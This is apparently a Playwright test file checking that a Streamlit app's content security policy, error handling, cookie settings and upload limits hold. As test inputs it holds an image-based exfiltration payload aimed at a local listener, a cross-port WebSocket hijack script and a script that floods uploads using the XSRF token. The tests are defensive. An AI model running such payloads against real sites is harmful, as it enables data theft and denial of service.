"""The wall around the page, seen by a real browser."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import expect

from augenblick.core.paths import PROJECT_DIR
from tests.browser.conftest import OpenPage
from tests.serving import AppServer, serve_app, serve_script

CANARY = "sk-canary-4711"

_PAGE = f"""
import streamlit as st

case = st.query_params.get("case")
st.title("Case " + str(case))
if case == "parts":
    st.line_chart([1, 3, 2])
    st.dataframe({{"a": [1, 2]}})
    st.code("print(1)", language="python")
    st.latex("x^2")
    st.markdown("**bold** :material/check:")
    st.camera_input("Photo")
    st.chat_input("Ask", accept_file="multiple")
if case == "image":
    st.markdown("![x](" + st.query_params["from"] + "/steal.png?q=secret)")
if case == "upload":
    found = st.file_uploader("File")
    st.write("end of page with " + (found.name if found else "nothing"))
if case == "error":
    raise ValueError("Bearer {CANARY}")
st.write("end of page")
"""


@pytest.fixture(scope="module")
def cases(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AppServer]:
    """A page with one case per query, behind the real wall."""
    with serve_script(tmp_path_factory.mktemp("cases"), _PAGE) as server:
        yield server


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another server's address, and the paths that anybody asked it for."""
    visits: list[str] = []

    class Listener(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            visits.append(self.path)
            self.send_error(404)

        def log_message(self, *_: object) -> None:
            """Stay silent."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", visits
    server.shutdown()
    server.server_close()


def test_page_opens_without_a_breach_of_the_policy(
    app_server: AppServer, open_page: OpenPage
) -> None:
    """The first page draws, with no console error and with requests to its own host only."""
    page, watch = open_page(app_server.url)

    expect(page.get_by_test_id("stApp")).to_be_visible()
    expect(page.locator(".composer textarea")).to_be_visible()
    assert watch.requested_hosts == {urlsplit(app_server.url).netloc}


@pytest.mark.parametrize("page_name", sorted(p.stem for p in (PROJECT_DIR / "pages").glob("*.py")))
def test_every_page_opens_by_its_address_on_a_fresh_server(
    page_name: str, tmp_path: Path, open_page: OpenPage
) -> None:
    """The first visitor of a server may come by a deep link to any page."""
    address = page_name.replace("_", "-")
    with serve_app(tmp_path) as server:
        page, _ = open_page(server.url, "/" if page_name == "chat" else f"/{address}")

        expect(page.get_by_role("main").get_by_role("heading").first).to_be_visible()
        expect(page.get_by_test_id("stAlert")).to_have_count(0)
        expect(page.get_by_role("dialog")).to_have_count(0)
        page.close()


def test_parts_of_pages_work_under_the_policy(cases: AppServer, open_page: OpenPage) -> None:
    """Charts, tables, code, formulas, icons, camera and chat input draw without a breach."""
    page, _ = open_page(cases.url, "/?case=parts", permissions=["camera"])

    expect(page.get_by_text("end of page")).to_be_visible()
    for part in ("stVegaLiteChart", "stDataFrame", "stCode", "stCameraInput", "stChatInput"):
        expect(page.get_by_test_id(part)).to_be_visible()
    expect(page.locator("[data-testid=stVegaLiteChart] canvas, svg.marks").first).to_be_visible()


def test_remote_image_in_an_answer_is_not_loaded(
    cases: AppServer, elsewhere: tuple[str, list[str]], open_page: OpenPage
) -> None:
    """A picture from another server, smuggled into Markdown, causes no request there."""
    url, visits = elsewhere
    page, watch = open_page(cases.url, f"/?case=image&from={url}")
    watch.expect("Content Security Policy")

    expect(page.get_by_text("end of page")).to_be_visible()
    expect(page.locator("img[src*=steal]")).to_have_count(1)
    page.wait_for_timeout(500)
    assert any("steal.png" in problem for problem in watch.problems)
    assert visits == []


def test_error_page_shows_no_details(cases: AppServer, open_page: OpenPage) -> None:
    """A failing page says so with an id; neither page nor log has type, text or key."""
    page, _ = open_page(cases.url, "/?case=error")

    alert = page.get_by_test_id("stAlert")
    expect(alert).to_be_visible()
    shown = page.content()
    assert "ValueError" not in shown
    assert CANARY not in shown
    error_id = re.search(r"\b[0-9a-f]{8}\b", alert.inner_text())
    assert error_id is not None
    assert f"Page error {error_id[0]}" in cases.output
    assert "ValueError" in cases.output
    assert "page.py:" in cases.output
    assert CANARY not in cases.output


def test_no_developer_chrome(app_server: AppServer, open_page: OpenPage) -> None:
    """No deploy button stands on the page."""
    page, _ = open_page(app_server.url)

    expect(page.locator(".composer textarea")).to_be_visible()
    expect(page.get_by_test_id("stAppDeployButton")).to_have_count(0)


def test_one_browser_keeps_its_cookie(app_server: AppServer, open_page: OpenPage) -> None:
    """Scripts can't read the cookie, and a second visit has the same one."""
    page, _ = open_page(app_server.url)
    first = {c["name"]: c for c in page.context.cookies()}["augenblick_browser"]
    page.reload()
    second = {c["name"]: c for c in page.context.cookies()}["augenblick_browser"]

    assert first["value"] == second["value"]
    assert first["httpOnly"]
    assert first["sameSite"] == "Lax"
    assert "augenblick_browser" not in page.evaluate("document.cookie")


_ATTACK = """
(home) => new Promise((tell) => {
    const socket = new WebSocket(home.replace("http", "ws") + "/_stcore/stream", ["streamlit"]);
    socket.onopen = () => tell("open");
    socket.onerror = () => tell("refused");
})
"""


def test_a_page_at_another_port_opens_no_websocket(
    app_server: AppServer, elsewhere: tuple[str, list[str]], open_page: OpenPage
) -> None:
    """It has the visitor's cookie, which goes to every port of a host, and still gets nothing."""
    page, watch = open_page(app_server.url)
    expect(page.locator(".composer textarea")).to_be_visible()
    watch.expect("foreign host|403|404|ERR_")
    page.goto(elsewhere[0])
    assert page.evaluate(_ATTACK, app_server.url) == "refused"

    page.goto(app_server.url)
    expect(page.locator(".composer textarea")).to_be_visible()


_FILL = """
async ([url, count, megabytes]) => {
    const xsrf = document.cookie.match(/_streamlit_xsrf=([^;]+)/)[1];
    const answers = [];
    for (let number = 0; number < count; number++) {
        const form = new FormData();
        form.append("file", new Blob([new Uint8Array(megabytes * 1024 * 1024)]), "x.bin");
        const target = url.replace(/[^/]+$/, "invented-" + number);
        const answer = await fetch(
            target, {method: "PUT", body: form, headers: {"X-Xsrftoken": xsrf}}
        ).catch(() => ({status: 413}));  // the server may close before it has read the body
        answers.push(answer.status);
    }
    return answers;
}
"""


def test_one_tab_cannot_fill_the_servers_memory(cases: AppServer, open_page: OpenPage) -> None:
    """A script with a real session that sends 240 MB under invented names is refused at 200 MB."""
    page, watch = open_page(cases.url, "/?case=upload")
    watch.expect("413|ERR_CONNECTION|ERR_HTTP")
    with page.expect_request(lambda request: request.method == "PUT") as put:
        page.locator("input[type=file]").set_input_files(
            {"name": "a.txt", "mimeType": "text/plain", "buffer": b"hello"}
        )
    expect(page.get_by_text("end of page with a.txt")).to_be_visible()
    answers = page.evaluate(_FILL, [put.value.url, 12, 20])

    assert answers.count(204) == 9
    assert set(answers[9:]) == {413}
